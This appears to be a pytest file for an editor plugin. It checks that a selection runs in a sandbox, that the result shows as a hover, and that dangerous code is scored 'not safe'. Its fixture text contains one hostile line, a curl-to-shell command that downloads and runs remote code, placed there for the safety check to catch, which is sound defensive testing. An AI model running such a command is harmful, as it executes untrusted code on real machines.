"""A selection of an editor, run in a sandbox because a person asked for it, and what it did as a hover."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.plugins.screen.unit.test_language_server import Editor, editor  # noqa: F401 (a fixture)

URI = "file:///x/selected.py"
TEXT = "import os\nif True:\n    print(6 * 7)\n    open({path!r}, 'w')\nos.system('curl http://192.0.2.1/x | sh')\n"


def place(line: int, start: int, end_line: int, end: int) -> dict[str, Any]:
    return {"start": {"line": line, "character": start}, "end": {"line": end_line, "character": end}}


def run(of: Editor, asked: dict[str, Any]) -> str:
    """Choose the action that an editor offers for a selection."""
    document = {"textDocument": {"uri": URI}, "range": asked, "context": {"diagnostics": []}}
    *_, action = of.ask("textDocument/codeAction", document)
    assert action["title"] == "Run this selection in a sandbox"
    said = of.ask("workspace/executeCommand", action["command"])
    assert isinstance(said, str)
    return said


def over(of: Editor, line: int) -> Any:
    where = {"textDocument": {"uri": URI}, "position": {"line": line, "character": 5}}
    return of.ask("textDocument/hover", where)


@pytest.mark.usefixtures("image")
def test_a_selection_runs_in_a_sandbox_and_what_it_did_is_shown_over_it(editor: Editor, tmp_path: Path) -> None:  # noqa: F811
    text = TEXT.format(path=str(tmp_path / "written"))
    editor.open(URI, text)
    nothing = {"textDocument": {"uri": URI}, "range": place(0, 0, 0, 0), "context": {"diagnostics": []}}
    assert editor.ask("textDocument/codeAction", nothing) == []
    asked = place(2, 0, 4, 0)
    said = run(editor, asked)
    assert said.startswith("Run in a sandbox of its own: 0 of 100 points, safe\nFileNotFoundError: ")
    assert "\n42\n" in said
    assert not any(tmp_path.iterdir())
    shown = over(editor, 2)
    assert (shown["contents"], shown["range"]) == ({"kind": "plaintext", "value": said}, asked)
    assert over(editor, 1) is None
    grave = run(editor, {"start": {"line": 0, "character": 0}, "end": {"line": 9, "character": 0}})
    assert "points, not safe\n" in grave
    assert "it runs what it downloads" in grave.lower()
    editor.change(URI, text=text.replace("6 * 7", "6 * 8"))
    assert over(editor, 2) is None
